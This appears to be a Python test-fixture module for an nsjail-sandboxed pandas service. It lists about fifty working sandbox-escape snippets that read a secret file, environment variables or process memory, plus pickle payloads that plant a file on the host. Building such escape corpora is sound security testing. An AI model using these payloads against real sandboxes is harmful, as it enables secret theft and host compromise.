"""Ways from an object at hand to what reads the host's files, or runs code there.

``got`` is what each got. $$SECRET is the path of a file with the secret, $$PLANT one that is not to
be; the secret is in the environment of the service, too.
"""

from typing import Final

OBJECTS: Final = {
    "a subclass's globals": (
        "kinds = ().__class__.__base__.__subclasses__()\n"
        "kind = [k for k in kinds if k.__name__ == '_wrap_close'][0]\n"
        "got = kind.__init__.__globals__['__builtins__']['open']($SECRET).read()"
    ),
    "a loader among the subclasses": (
        "kind = [k for k in object.__subclasses__() if k.__name__ == 'FileLoader'][0]\n"
        "got = kind.get_data(0, $SECRET)"
    ),
    "a warning's module among the subclasses": (
        "kind = [k for k in object.__subclasses__() if k.__name__ == 'catch_warnings'][0]\n"
        "got = kind()._module.sys.modules['io'].open($SECRET).read()"
    ),
    "the classes of a cell": (
        "kind = type(df.iloc[0, 0]).mro()[-1]\n"
        "got = [k for k in kind.__subclasses__() if k.__name__ == '_wrap_close'][0]\n"
        "got = got.close.__globals__['environ']"
    ),
    "a generator's frame": (
        "g = (x for x in [1])\ngot = g.gi_frame.f_builtins['open']($SECRET).read()"
    ),
    "the frames below a generator": (
        "def climb():\n"
        "    frame = g.gi_frame.f_back\n"
        "    while 'outcome_of' not in frame.f_globals: frame = frame.f_back\n"
        "    yield frame.f_globals['os']\n"
        "g = climb()\nhost = next(g)\n"
        "got = host.read(host.open($SECRET, 0), 999)"
    ),
    "a coroutine's frame": (
        "async def nothing(): pass\n"
        "c = nothing()\ngot = c.cr_frame.f_builtins['open']($SECRET).read()\nc.close()"
    ),
    "an asynchronous generator's frame": (
        "async def nothing(): yield\ngot = nothing().ag_frame.f_builtins['open']($SECRET).read()"
    ),
    "a traceback's frame": (
        "try: 1 / 0\n"
        "except ZeroDivisionError as error:\n"
        "    frame = error.__traceback__.tb_frame\n"
        "    while frame.f_back: frame = frame.f_back\n"
        "    got = frame.f_builtins['open']($SECRET).read()"
    ),
    "the frame of the call": ("import sys\ngot = sys._getframe(1).f_globals['os'].environ"),
    "the frames of all threads": (
        "import sys\n"
        "got = [f.f_builtins['open']($SECRET).read() for f in sys._current_frames().values()]"
    ),
    "what the collector knows": (
        "import gc\ngc.unfreeze()\n"
        "found = (o for o in gc.get_objects() if type(o) is dict and 'breakpoint' in o)\n"
        "got = next(found)['open']($SECRET).read()"
    ),
    "what a function refers to": (
        "import gc\n"
        "found = (o for o in gc.get_referents(pd.merge) if type(o) is dict and '__name__' in o)\n"
        "got = next(found)['__builtins__']['open']($SECRET).read()"
    ),
    "a function's globals": "got = pd.merge.__globals__['__builtins__']['open']($SECRET).read()",
    "a module in a function's globals": (
        "host = np.load.__globals__['os']\ngot = host.read(host.open($SECRET, 0), 999)"
    ),
    "a method's function": (
        "got = df.merge.__func__.__globals__['__builtins__']['open']($SECRET).read()"
    ),
    "a closure's cells": (
        "found = [c.cell_contents for c in pd.read_csv.__closure__ or ()]\n"
        "found += [pd.read_csv]\n"
        "got = found[-1].__globals__['__builtins__']['open']($SECRET).read()"
    ),
    "code put together": (
        "def f(): pass\n"
        "f.__code__ = compile('def g(p):\\n return open(p).read()', '', 'exec').co_consts[0]\n"
        "got = f($SECRET)"
    ),
    "the builtins by name": "got = __builtins__['open']($SECRET).read()",
    "the builtins by a subscript": "got = globals()['__builtins__']['open']($SECRET).read()",
    "a pickle": (
        "import pickle\n"
        "class Thief:\n    def __reduce__(self): return open, ($SECRET,)\n"
        "got = pickle.loads(pickle.dumps(Thief())).read()"
    ),
    "a pickle written by hand": (
        "import pickle\ngot = pickle.loads(b'cos\\ngetenv\\n(VDATATRAIL_SECRET\\ntR.')"
    ),
    "a pickle through numpy": (
        "import io\n"
        "class Thief:\n    def __reduce__(self): return open, ($SECRET,)\n"
        "file = io.BytesIO()\nnp.save(file, np.array([Thief()], dtype=object))\nfile.seek(0)\n"
        "got = np.load(file, allow_pickle=True)[0].read()"
    ),
    "a pickle through pandas": (
        "import io\n"
        "class Thief:\n    def __reduce__(self): return open, ($SECRET,)\n"
        "file = io.BytesIO()\npd.to_pickle(Thief(), file)\nfile.seek(0)\n"
        "got = pd.read_pickle(file).read()"
    ),
    "a pickle through copy": (
        "import copy\n"
        "class Thief:\n    def __reduce_ex__(self, v): return open, ($SECRET,)\n"
        "got = copy.copy(Thief()).read()"
    ),
    "a format string": "got = '{0.__globals__[os].environ}'.format(np.load)",
    "a formatter": (
        "import string\n"
        "got = string.Formatter().vformat('{0.__globals__[os].environ}', (np.load,), {})"
    ),
    "a format map": "got = '{f.__globals__[os].environ}'.format_map({'f': np.load})",
    "str.format of a column": (
        "got = pd.Series(['{0.__globals__[os].environ}']).map(lambda t: t.format(np.load))[0]"
    ),
    "pandas.eval with a local name": (
        "p = $SECRET\nread = lambda p: open(p).read()\ngot = pd.eval('read(p)', engine='python')"
    ),
    "DataFrame.eval with a local name": (
        "p = $SECRET\nread = lambda p: open(p).read()\n"
        "got = df.eval('x = @read(@p)', engine='python')['x'][0]"
    ),
    "DataFrame.query with a module": (
        "seen = []\n"
        "def see(c): seen.append(open($SECRET).read()); return c == c\n"
        "df.query('@see(city)', engine='python')\ngot = seen"
    ),
    "an operator's attribute": (
        "import operator\ngot = operator.attrgetter('__globals__')(np.load)['os'].environ"
    ),
    "sys.modules": "import sys\ngot = sys.modules['os'].environ",
    "the main module": (
        "import __main__, sys\n"
        "got = vars(__main__)['pd'].io.common.__builtins__['open']($SECRET).read()"
    ),
    "the runner's own module": (
        "import sys\n"
        "got = sys.modules['infrastructure.nsjail.frames'].__builtins__['open']($SECRET).read()"
    ),
    "a module's loader": "got = pd.__loader__.get_data($SECRET)",
    "a module's spec": "got = np.__spec__.loader.get_data($SECRET)",
    "an import hook": (
        "import sys, importlib.abc, importlib.util\n"
        "class Hook(importlib.abc.MetaPathFinder, importlib.abc.InspectLoader):\n"
        "    def find_spec(self, name, path, target=None):\n"
        "        return importlib.util.spec_from_loader(name, self) if name == 'x_y' else None\n"
        "    def get_source(self, name): return 'got = open(' + repr($SECRET) + ').read()'\n"
        "sys.meta_path.insert(0, Hook())\nimport x_y\ngot = x_y.got"
    ),
    "a path to import from": (
        "import sys, os\nsys.path.insert(0, os.path.dirname($SECRET))\n"
        "import stolen\ngot = stolen.got"
    ),
    "a line of .pth": (
        "import site, os, tempfile\n"
        "place = tempfile.mkdtemp()\n"
        "open(place + '/x.pth', 'w').write('import os; os.stolen = os.environ.copy()')\n"
        "site.addsitedir(place)\ngot = os.stolen"
    ),
    "a codec": (
        "import codecs\n"
        "codecs.register(lambda n: codecs.CodecInfo(None, lambda b, e='': "
        "(codecs.open($SECRET, encoding='utf-8').read(), 1), name=n) if n == 'thief' else None)\n"
        "got = b'x'.decode('thief')"
    ),
    "code in C's own interpreter": (
        "import ctypes\n"
        "ctypes.pythonapi.PyRun_SimpleString(b'import os; os.stolen = dict(os.environ)')\n"
        "import os\ngot = os.stolen"
    ),
    "C's environment": (
        "f = libc.getenv\nf.restype = ctypes.c_char_p\ngot = f(b'DATATRAIL_SECRET')"
    ),
    "C's environment by address": (
        "environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')\n"
        "got = []\nwhile environ[len(got)]: got.append(environ[len(got)])"
    ),
    "memory through numpy": (
        "import ctypes, sys\n"
        "environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "area = (ctypes.c_char * 200).from_address(environ[0])\n"
        "got = np.frombuffer(area, 'u1').tobytes()"
    ),
    "memory beyond an array": (
        "import ctypes\n"
        "environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "a = np.zeros(1, 'u1')\nfar = environ[0] - a.ctypes.data\n"
        "b = np.lib.stride_tricks.as_strided(a, (2, 200), (far, 1))\ngot = b[1].tobytes()"
    ),
    "memory through np.ctypeslib": (
        "import ctypes\n"
        "environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "at = ctypes.cast(environ[0], ctypes.POINTER(ctypes.c_ubyte))\n"
        "got = np.ctypeslib.as_array(at, (200,)).tobytes()"
    ),
    "memory through __array_interface__": (
        "import ctypes\n"
        "environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "class Area:\n"
        "    __array_interface__ = dict(shape=(200,), typestr='|u1', version=3,\n"
        "        data=(environ[0], True))\n"
        "got = np.asarray(Area()).tobytes()"
    ),
    "memory through Arrow": (
        "import ctypes, pyarrow as pa\n"
        "environ = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), 'environ')\n"
        "got = pa.foreign_buffer(environ[0], 200).to_pybytes()"
    ),
}

# Payloads that would run on the host, if it ever unpickled or trusted what a jail leaves.
_PAYLOAD: Final = "class Payload:\n    def __reduce__(self): return open, ($PLANT, 'w')\n"
PLANTS: Final = {
    "a pickle as the answer": f"{_PAYLOAD}result = Payload()",
    "pickles in a dict": f"{_PAYLOAD}result = {{'mark': 'bar', 'data': Payload()}}",
    "pickles as cells": f"{_PAYLOAD}df['x'] = [Payload(), Payload(), Payload()]",
    "pickled bytes as cells": (
        f"{_PAYLOAD}import pickle\ndf['x'] = [pickle.dumps(Payload())] * 3\nresult = df"
    ),
    "a pickle where the table belongs": (
        f"{_PAYLOAD}import pickle\nos.write(RESULT, pickle.dumps(Payload()))\n"
        'os.write(FD, b\'{"outcome": "ok"}\')\nos._exit(0)'
    ),
    "a pickle where the answer belongs": (
        f"{_PAYLOAD}import pickle\nos.write(ANSWER, pickle.dumps(Payload()))\n"
        "df.to_parquet(open(os.dup(RESULT), 'wb'))\n"
        'os.write(FD, b\'{"outcome": "ok", "answer": "table"}\')\nos._exit(0)'
    ),
    "an extension type that unpickles": (
        f"{_PAYLOAD}import pickle, pyarrow as pa, pyarrow.parquet as pq\n"
        "kind = pa.field('x', pa.int64(), metadata={\n"
        "    'ARROW:extension:name': 'arrow.py_extension_type',\n"
        "    'ARROW:extension:metadata': pickle.dumps(Payload())})\n"
        "table = pa.table([pa.array([1])], schema=pa.schema([kind]))\n"
        "pq.write_table(table, open(os.dup(RESULT), 'wb'))\n"
        'os.write(FD, b\'{"outcome": "ok"}\')\nos._exit(0)'
    ),
    "pandas' own notes in the schema": (
        f"{_PAYLOAD}import pickle, pyarrow as pa, pyarrow.parquet as pq\n"
        "notes = {'pandas': pickle.dumps(Payload()), 'PANDAS_ATTRS': '!!python/object'}\n"
        "table = pa.table({'x': [1]}).replace_schema_metadata(notes)\n"
        "pq.write_table(table, open(os.dup(RESULT), 'wb'))\n"
        'os.write(FD, b\'{"outcome": "ok"}\')\nos._exit(0)'
    ),
    "attributes of the frame": f"{_PAYLOAD}df.attrs['x'] = Payload()\nresult = df",
    "a class of one's own for the frame": (
        f"{_PAYLOAD}class Frame(pd.DataFrame):\n"
        "    __reduce__ = lambda self: (open, ($PLANT, 'w'))\n"
        "df = Frame(df)\nresult = df"
    ),
}
